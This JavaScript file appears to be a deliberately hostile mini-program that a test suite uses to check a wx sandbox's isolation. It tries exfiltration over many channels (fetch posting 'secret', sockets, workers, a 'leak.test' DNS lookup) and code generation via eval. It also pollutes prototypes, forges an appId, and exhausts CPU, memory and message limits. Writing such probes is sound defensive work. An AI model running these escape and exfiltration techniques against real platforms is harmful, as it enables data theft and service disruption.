// A program that means harm. A test types a command into its field and taps `run`, or puts it into the page's query,
// where it runs without a tap. Each command is one of `acts`, or else a call of wx.
const note = (what, data) =>
  console.log(
    'probe ' + stringify(data === undefined ? { what } : { what, data: plain(data) }),
  );

/** The attacks replace JSON's members; what is told to the test must not suffer. */
const { stringify, parse } = JSON;
const plain = (value) =>
  parse(stringify(value === undefined ? null : value, (key, it) => (key === 'eventChannel' ? '[EventChannel]' : it)));

/** What came of an attempt, as text. */
const attempt = (run) => {
  try {
    return String(run());
  } catch (error) {
    return 'threw ' + error.name;
  }
};

const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Abilities of a Worker that a program must not have. */
const ABILITIES =
  'fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport FontFace importScripts Worker SharedWorker ' +
  'BroadcastChannel MessageChannel MessagePort indexedDB caches navigator location postMessage close self performance ' +
  'crypto OffscreenCanvas WebAssembly RTCPeerConnection RTCDataChannel Notification FileReader Blob URL Request Response ' +
  'addEventListener dispatchEvent onmessage createImageBitmap structuredClone reportError requestAnimationFrame ' +
  'scheduler trustedTypes origin isSecureContext name __atrium';

const acts = {
  /** Case 3. */
  globals() {
    const found = ABILITIES.split(' ').filter((name) => attempt(() => typeof (0, globalThis)[name]) !== 'undefined');
    const names = new Set();
    for (let at = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
      for (const name of Object.getOwnPropertyNames(at)) names.add(name);
    return { found, all: [...names].filter((name) => !/^[A-Z]/.test(name)).sort().slice(0, 60) };
  },

  /** Case 2: text into code, in every way the language and the platform know. */
  async codegen() {
    const AsyncFunction = (async () => {}).constructor;
    const GeneratorFunction = function* () {}.constructor;
    const AsyncGenerator = async function* () {}.constructor;
    globalThis.ran = '';
    const said = {
      eval: attempt(() => (0, globalThis.eval)('ran += "eval "')),
      Function: attempt(() => new Function('ran += "Function "')()),
      call: attempt(() => Function('a', 'ran += "call "')()),
      constructor: attempt(() => (() => {}).constructor('ran += "constructor "')()),
      async: attempt(() => AsyncFunction('ran += "async "')()),
      generator: attempt(() => GeneratorFunction('ran += "generator "')().next()),
      asyncGenerator: attempt(() => AsyncGenerator('ran += "asyncGenerator "')().next()),
      reflect: attempt(() => Reflect.construct(Function, ['ran += "reflect "'])()),
      wasm: attempt(() => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      blob: attempt(() => URL.createObjectURL(new Blob(['ran += "blob "']))),
      timer: attempt(() => setTimeout('ran += "timer "', 0)),
    };
    await later(50);
    return { ran: globalThis.ran, said };
  },

  /** Case 1: where the realm still has the means, the policy has to hold. */
  async egress({ to, names }) {
    const wait = (promise) =>
      Promise.race([promise, later(1500).then(() => 'nothing')]).then(String, (error) => 'threw ' + error.name);
    const socket = (make) =>
      wait(
        new Promise((resolve, reject) => {
          const it = make();
          it.onopen = () => resolve('opened');
          it.onerror = () => reject(new Error());
        }),
      );
    const ways = {
      fetch: () => wait(fetch(to + '/w/fetch').then((it) => it.status)),
      post: () => wait(fetch(to + '/w/post', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }).then((it) => it.type)),
      xhr: () =>
        wait(
          new Promise((resolve, reject) => {
            const it = new XMLHttpRequest();
            it.onload = () => resolve('loaded');
            it.onerror = () => reject(new Error());
            it.open('GET', to + '/w/xhr');
            it.send();
          }),
        ),
      xhrSync: () => {
        const it = new XMLHttpRequest();
        it.open('GET', to + '/w/xhr-sync', false);
        it.send();
        return it.status;
      },
      socket: () => socket(() => new WebSocket(to.replace('http', 'ws') + '/w/socket')),
      stream: () => wait(new WebSocketStream(to.replace('http', 'ws') + '/w/stream').opened),
      events: () => socket(() => new EventSource(to + '/w/events')),
      transport: () => wait(new WebTransport('https://127.0.0.1:1/w').ready),
      font: () => wait(new FontFace('f', 'url(' + to + '/w/font)').load()),
      scripts: () => importScripts(to + '/w/scripts'),
      dynamic: () => wait(import(to + '/w/import')),
      worker: () => socket(() => new Worker(to + '/w/worker')),
      nested: () => {
        const text = 'fetch(' + stringify(to + '/w/nested') + ')';
        return new Worker(URL.createObjectURL(new Blob([text])));
      },
      names: () => wait(fetch('http://' + names + '.leak.test/')),
    };
    const said = {};
    for (const name of Object.keys(ways)) {
      try {
        said[name] = String(await ways[name]());
      } catch (error) {
        said[name] = 'threw ' + error.name;
      }
    }
    return said;
  },

  /** Case 5: everything that the base library could lean on. */
  tamper() {
    const evil = function () {
      throw new Error('tampered');
    };
    JSON.stringify = () => '{"id":1,"api":"nav.open","args":{"appId":"mpsecret01"}}';
    JSON.parse = evil;
    for (const type of [Array, Map, Set, WeakMap, Promise, String, RegExp])
      for (const name of Object.getOwnPropertyNames(type.prototype))
        if (name !== 'constructor' && typeof Object.getOwnPropertyDescriptor(type.prototype, name).value === 'function')
          attempt(() => (type.prototype[name] = evil));
    Object.prototype.polluted = 'yes';
    Object.defineProperty(Object.prototype, 'api', { get: () => 'nav.open', configurable: true });
    attempt(() => wx.getStorageInfo({}));
    attempt(() => wx.setStorageSync('a', { b: 1 }));
  },

  spin() {
    for (;;);
  },
  /** Case 27. */
  heap() {
    const kept = [];
    for (;;) kept.push(new Array(1e6).fill({ x: Math.random() }));
  },
  /** Cases 29 and 30: as fast as the library lets it. */
  flood({ count }) {
    for (let i = 0; i < count; i++) wx.setNavigationBarTitle({ title: 'x' + i });
  },
  endless() {
    const more = () => {
      for (let i = 0; i < 400; i++) wx.setNavigationBarTitle({ title: 'x' + i });
      setTimeout(more, 50);
    };
    more();
  },
  async limited({ count }) {
    const said = {};
    const calls = Array.from({ length: count }, () =>
      wx.setNavigationBarTitle({ title: 'x' }).then(
        () => 'ok',
        (error) => error.errMsg,
      ),
    );
    for (const one of await Promise.all(calls)) said[one] = (said[one] || 0) + 1;
    await later(1500);
    const after = await wx.setNavigationBarTitle({ title: 'again' });
    return { said, after: after.errMsg };
  },
  /** Case 35. */
  storm({ ms }) {
    const end = Date.now() + ms;
    const text = 'x'.repeat(100_000);
    const more = () => {
      this.setData({ text: text + Date.now(), list: Array.from({ length: 2000 }, (_, i) => i + text.slice(0, 5)) });
      if (Date.now() < end) setTimeout(more, 10);
    };
    more();
  },
  /** Case 36: calls that nobody will ever answer, and timers without number. */
  pending({ count }) {
    for (let i = 0; i < count; i++) wx.showModal({ title: 'x', success: () => {} });
    for (let i = 0; i < count; i++) setInterval(() => {}, 1);
  },

  /** Cases 29, 31, 33, 42: past the library, where the realm still has `postMessage`. */
  raw({ kind, text, count = 1 }) {
    const dag = () => {
      let it = [];
      for (let i = 0; i < 28; i++) it = [it, it];
      return it;
    };
    const payloads = {
      text: () => text,
      keys: () => Object.fromEntries(Array.from({ length: 3e5 }, (_, i) => ['k' + i, i])),
      map: () => new Map(Array.from({ length: 1e5 }, (_, i) => [i, i])),
      buffer: () => new ArrayBuffer(5e7),
      long: () => 'x'.repeat(2e7),
      dag,
      sparse: () => {
        const it = [];
        it.length = 3e7;
        return it;
      },
      deep: () => '{"id":1,"api":"app.log","args":' + '{"a":'.repeat(40_000) + '1' + '}'.repeat(40_000) + '}',
      cyclic: () => {
        const it = {};
        it.it = it;
        return it;
      },
      bigint: () => 10n ** 1000n,
      nothing: () => null,
    };
    const payload = payloads[kind]();
    for (let i = 0; i < count; i++) postMessage(payload);
  },
  rawEndless() {
    const more = () => {
      for (let i = 0; i < 100; i++) postMessage('{"id":0,"api":"none","args":{}}');
      setTimeout(more, 100);
    };
    more();
  },

  storage({ key, chars, count = 1 }) {
    const said = [];
    for (let i = 0; i < count; i++)
      said.push(attempt(() => wx.setStorageSync(count > 1 ? key + i : key, 'x'.repeat(chars)) || 'stored'));
    return { said: [...new Set(said)], polluted: ({}).polluted };
  },
  read: ({ key }) => wx.getStorageSync(key),
  keys: () => wx.getStorageInfoSync().keys,

  /** Cases 19 to 21. */
  paint({ data }) {
    this.setData(data);
  },
  alive: () => Object.keys(wx).length,
  async several({ commands }) {
    for (const one of commands) run.call(this, one);
  },
  later({ ms, command }) {
    setTimeout(() => run.call(this, command), ms);
  },
};

/** extraData no JSON text can say, or too much of it, or more than it seems. */
const tricks = {
  array: () => [1, 2],
  nothing: () => null,
  long: () => ({ text: 'x'.repeat(64 * 1024 + 1) }),
  deep: () => {
    let it = {};
    for (let i = 0; i < 33; i++) it = { it };
    return it;
  },
  cyclic: () => {
    const it = {};
    it.self = it;
    return it;
  },
  proto: () => parse('{"kept":1,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  /** The same, with the base library blind for it. */
  protoUnseen() {
    const { includes } = String.prototype;
    String.prototype.includes = () => false;
    setTimeout(() => (String.prototype.includes = includes), 0);
    return tricks.proto();
  },
  toJSON: () => ({ toJSON: () => ({ __proto__: null, said: 'by toJSON' }) }),
  forged: () => ({ referrerInfo: { appId: 'mpsecret01' }, scene: 1001, appId: 'mpsecret01' }),
};

async function run(command) {
  const { api, options, trick, times = 1 } = command;
  if (Object.hasOwn(acts, api)) {
    const result = await Promise.resolve(acts[api].call(this, command)).catch((error) => 'threw ' + error);
    note(api, result);
    return;
  }
  for (let i = 0; i < times; i++)
    wx[api]({
      ...options,
      ...(trick ? { extraData: tricks[trick]() } : {}),
      success: (res) => note(api + ' success', res),
      fail: (res) => note(api + ' fail', res),
    });
}

const page = (name) => ({
  data: { said: '', text: '', src: '', style: '', nodes: [], list: [] },
  onLoad(query) {
    note(name + '.onLoad', query);
    if (query.run) run.call(this, parse(query.run));
  },
  onReady: () => note(name + '.onReady'),
  typed(e) {
    this.command = e.detail.value;
  },
  run() {
    run.call(this, parse(this.command));
  },
});

module.exports = { note, page };
